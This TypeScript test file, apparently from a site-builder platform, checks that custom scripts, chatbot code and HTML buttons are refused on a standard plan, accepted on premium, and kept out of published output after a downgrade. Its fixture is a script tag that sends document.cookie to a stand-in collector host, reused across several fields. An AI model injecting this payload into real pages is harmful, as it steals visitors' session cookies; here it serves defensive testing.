import { randomUUID } from "node:crypto";
import { compileSite, type SiteDocument } from "@mekuri/domain";
import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { accounts, plans } from "../../platform/database/schema/index.ts";
import { createAccount, useTestApp } from "../../testing/test-app.ts";
import { loadSiteDraft } from "./site-draft-repository.ts";
import { asDocument, filledDocument, siteApi, tenant } from "./site-test-helpers.ts";

const ctx = useTestApp();
let master: { id: string; path: string };
const refused = "Your plan does not include custom code (scripts, chatbots and HTML buttons).";
const script = "<script>fetch('https://collector.example/'+document.cookie)</script>";

beforeAll(async () => {
  master = await createAccount(ctx, { kind: "master" });
});

async function siteOnPlan(plan: string) {
  const owner = await tenant(ctx, { parent: master, plan });
  const api = siteApi(ctx, owner.token);
  const id = (await api.create({ name: "Code", number_horizontal: 1, number_vertical: 1 })).json()
    .id as string;
  const doc = filledDocument(asDocument((await api.get(id)).json()));
  const saved = await api.put(id, doc);
  if (saved.statusCode !== 200) throw new Error(saved.body);
  return { owner, api, id, load: async () => asDocument((await api.get(id)).json()) };
}

type Change = (doc: SiteDocument) => SiteDocument;
const onA1 = (doc: SiteDocument, change: (page: SiteDocument["pages"][number]) => object): SiteDocument => ({
  ...doc,
  pages: doc.pages.map((page, index) => (index === 0 ? { ...page, ...change(page) } : page)),
});
const firstButton = (doc: SiteDocument, change: object) =>
  onA1(doc, (page) => ({ buttons: { ja: [{ ...page.buttons.ja![0]!, ...change }] } }));
const linkArea = {
  id: "area-1",
  linkType: "SCRIPT" as const,
  linkDestinationUrl: script,
  surveyId: null,
  positionLeft: 0,
  positionTop: 0,
  width: 100,
  height: 100,
  parentWidth: 240,
  parentHeight: 739,
};

// Every field of the site document that carries creator code (decision 034).
const codeFields: [string, Change, string][] = [
  [
    "the contact script",
    (d) => ({ ...d, scripts: { ...d.scripts, contactScript: script } }),
    "scripts.contact_script",
  ],
  [
    "the membership script",
    (d) => ({ ...d, scripts: { ...d.scripts, membershipScript: script } }),
    "scripts.membership_script",
  ],
  [
    "the form script",
    (d) => ({ ...d, scripts: { ...d.scripts, formScript: script } }),
    "scripts.form_script",
  ],
  ["a chatbot script", (d) => onA1(d, () => ({ chatbotScript: script })), "pages.0.chatbot_script"],
  [
    "a button's script action",
    (d) => firstButton(d, { buttonLinkType: "SCRIPT", linkDestinationUrl: script }),
    "pages.0.buttons.ja.0.link_destination_url",
  ],
  [
    "an HTML/CSS button",
    (d) => firstButton(d, { buttonType: "HTML_CSS", buttonContentHtml: '<b style="color:red">Buy</b>' }),
    "pages.0.buttons.ja.0.button_content_html",
  ],
  [
    "a link area's script action",
    (d) => onA1(d, () => ({ links: { ja: [linkArea] } })),
    "pages.0.links.ja.0.link_destination_url",
  ],
];

describe("creator code on a plan without the tag feature (issue 12 item 12)", () => {
  it.each(codeFields)("refuses %s, naming the field", async (_name, change, path) => {
    const site = await siteOnPlan("standard");
    const before = await site.load();
    const response = await site.api.put(site.id, change(before));
    expect(response.statusCode).toBe(400);
    expect(response.json().fields).toContainEqual({ path, message: refused });
    expect(await site.load()).toEqual(before);
  });

  it.each(codeFields)("accepts %s on a plan with the tag feature", async (_name, change) => {
    const site = await siteOnPlan("premium");
    const response = await site.api.put(site.id, change(await site.load()));
    expect(response.statusCode).toBe(200);
  });

  it("lets a downgraded site keep the code it has and save other changes, and publishes none of it", async () => {
    const site = await siteOnPlan("premium");
    const withCode = codeFields.reduce((doc, [, change]) => change(doc), await site.load());
    expect((await site.api.put(site.id, withCode)).statusCode).toBe(200);

    const [standard] = await ctx.database.db.select().from(plans).where(eq(plans.code, "standard"));
    await ctx.database.db
      .update(accounts)
      .set({ planId: standard!.id })
      .where(eq(accounts.id, (await site.load()).accountId));
    const renamed = await site.api.put(site.id, { ...(await site.load()), name: "Renamed" });
    expect(renamed.statusCode).toBe(200);

    const draft = (await loadSiteDraft(ctx.database.db, site.id))!;
    const flags = { settingFormContact: true, settingPopupCta: true, poweredBy: false, settingTagSeo: false };
    const [compiled] = compileSite(draft, flags, 1, new Date());
    expect(JSON.stringify(compiled!.publicData)).not.toContain("collector.example");
    expect(JSON.stringify(compiled!.publicData)).not.toContain("color:red");
    const [allowed] = compileSite(draft, { ...flags, settingTagSeo: true }, 1, new Date());
    expect(JSON.stringify(allowed!.publicData)).toContain("collector.example");
  });

  it("refuses a script action of a popup and of a campaign item", async () => {
    const site = await siteOnPlan("standard");
    const doc = await site.load();
    const response = await site.api.put(site.id, {
      ...doc,
      campaign: {
        names: { ja: "春" },
        backgrounds: {},
        backgroundColor: "#FFFFFF",
        backgroundOpacity: 100,
        startDate: null,
        endDate: null,
        effectivePages: [1],
        isOnClickCount: true,
        positionLp: "center",
        banners: [],
        buttons: [],
        links: [
          {
            id: randomUUID(),
            position: "right",
            zIndex: 1,
            x: 10,
            y: 10,
            width: 100,
            height: 100,
            parentWidth: 240,
            parentHeight: 739,
            linkType: "SCRIPT",
            linkDestinationUrl: script,
          },
        ],
      },
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().fields).toContainEqual({
      path: "campaign.links.0.link_destination_url",
      message: refused,
    });
  });
});
